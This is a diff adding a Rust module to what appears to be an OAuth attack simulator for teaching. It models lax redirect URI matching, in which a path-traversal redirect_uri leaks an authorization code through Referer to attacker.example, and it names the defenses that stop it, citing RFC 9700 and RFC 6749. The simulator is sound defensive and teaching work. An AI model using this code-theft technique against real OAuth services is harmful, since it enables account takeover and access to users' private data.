@@ -1,0 +1,109 @@
+//! `redirect-uri-lax`: the AS compares redirect URIs loosely (by prefix, or host only),
+//! so a URI that climbs out of `/cb` with `..` is accepted. The code lands on the
+//! client's home page, whose third-party content receives it in `Referer`; the attacker
+//! injects it into its own session (RFC 9700 §4.1).
+
+use crate::actors::well_known as wk;
+use crate::actors::{ActorId, Ctx, Defenses};
+use crate::attacks::attacker::{Attacker, Kit, Playbook};
+use crate::attacks::interceptors::{Tap, TapAction, is_request};
+use crate::attacks::setup::{
+    ATTACKER, ATTACKER_BROWSER, ATTACKER_ORIGIN, attacker_browser, client_photos_owner_of, injection_url, navigate, query, request_url,
+};
+use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
+use crate::protocol::http_wire::{self, Request, Response};
+use crate::protocol::params::{Params, append_query};
+use crate::sim::Simulation;
+use crate::sim::world::WorldBuilder;
+
+pub struct RedirectUriLax;
+
+/// The manipulated redirect URI: a path traversal out of the registered `/cb`.
+pub const TRAVERSAL_REDIRECT_URI: &str = "https://client.example/cb/../";
+
+static INFO: AttackInfo = AttackInfo {
+    id: "redirect-uri-lax",
+    title: "Lax redirect URI matching sends the code elsewhere",
+    story: "Mallory starts a sign-in at Photo Printer and stops at the AS. She rewrites the authorization URL's \
+            redirect_uri to https://client.example/cb/../ — which starts with the registered URI and is on the right \
+            host — and lures Alice to it. A lax AS accepts it; the code lands on Photo Printer's home page, which \
+            shows an ad served by attacker.example; the browser sends the URL, code included, in Referer. Mallory \
+            opens the real callback with that code in her own browser.",
+    capabilities: &[Capability::WebAttacker],
+    setup: "Photo Printer's home page shows third-party content from attacker.example.",
+    steps: &[
+        "Start a sign-in at Photo Printer; stop at the AS and keep the authorization URL",
+        "Change redirect_uri to https://client.example/cb/../ and send Alice to the URL",
+        "Read the code from the Referer of the ad request; open the callback with it in the attacker's browser",
+    ],
+    goal: "the attacker's session at Photo Printer shows Alice's photos",
+    stoppers: &[
+        Stopper { defense: "redirect-matching", why: "exact string matching refuses the manipulated URI (RFC 9700 §4.1.3)" },
+        Stopper {
+            defense: "token-redirect-uri-check",
+            why: "the code was issued for …/cb/../, not the /cb the client redeems it with (RFC 6749 §4.1.3)",
+        },
+    ],
+    references: "RFC 9700 §4.1; RFC 6749 §3.1.2, §4.1.3",
+};
+
+#[derive(Default)]
+struct Lax {
+    own_state: Option<String>,
+    injected: bool,
+}
+
+impl Playbook for Lax {
+    fn on_observed(&mut self, kit: &mut Kit, ctx: &mut Ctx<'_>, wire: &str) {
+        let Some(url) = request_url(wire) else { return };
+        let q = query(&url);
+        self.own_state = q.first("state").map(str::to_string);
+        let changed = Params(
+            q.0.into_iter()
+                .map(|(k, v)| if k == "redirect_uri" { (k, TRAVERSAL_REDIRECT_URI.to_string()) } else { (k, v) })
+                .collect(),
+        );
+        let base = url.split('?').next().unwrap_or(&url).to_string();
+        kit.redirects.insert("/".into(), append_query(&base, &changed));
+        ctx.note("Attacker: rewrote redirect_uri to https://client.example/cb/../ in its own authorization URL; its page now redirects there.");
+    }
+
+    fn on_request(&mut self, kit: &mut Kit, ctx: &mut Ctx<'_>, req: &Request) -> Option<Response> {
+        let referer = http_wire::header(req, "referer").map(str::to_string)?;
+        let code = query(&referer).first("code").map(str::to_string)?;
+        if !self.injected {
+            self.injected = true;
+            kit.drive(ctx, ATTACKER_BROWSER, &injection_url(&code, self.own_state.as_deref()), "The attacker opens the callback with the leaked code.");
+        }
+        None
+    }
+}
+
+impl Attack for RedirectUriLax {
+    fn info(&self) -> &'static AttackInfo {
+        &INFO
+    }
+
+    fn build(&self, seed: u64, defenses: Defenses) -> Simulation {
+        let mut w = WorldBuilder::standard(seed, defenses);
+        w.client.home_page_third_party = Some(format!("{ATTACKER_ORIGIN}/ad.gif"));
+        let mut sim = w.build();
+        sim.add_actor(Box::new(Attacker::new(ATTACKER, "Attacker (attacker.example)", &[ATTACKER_ORIGIN], Lax::default())));
+        sim.add_attacker_actor(Box::new(attacker_browser()));
+        sim.add_interceptor(Box::new(Tap::new(
+            "the attacker stops its own browser at the AS",
+            |env| is_request(env, ATTACKER_BROWSER, wk::AS, "/authorize"),
+            TapAction::Capture(ActorId::new(ATTACKER)),
+        )));
+        sim.push_scenario(navigate(ATTACKER_BROWSER, &format!("{}/login", wk::CLIENT_ORIGIN), "Mallory starts a sign-in at Photo Printer in her own browser."));
+        sim.push_scenario(navigate(wk::BROWSER, &format!("{ATTACKER_ORIGIN}/"), "Alice follows a link to the attacker's page."));
+        sim
+    }
+
+    fn goal(&self, sim: &Simulation) -> Option<String> {
+        (client_photos_owner_of(sim, ATTACKER_BROWSER)? == wk::ALICE)
+            .then(|| "the attacker's browser session at Photo Printer shows Alice's photos".to_string())
+    }
+}
+
+pub static ATTACK: RedirectUriLax = RedirectUriLax;
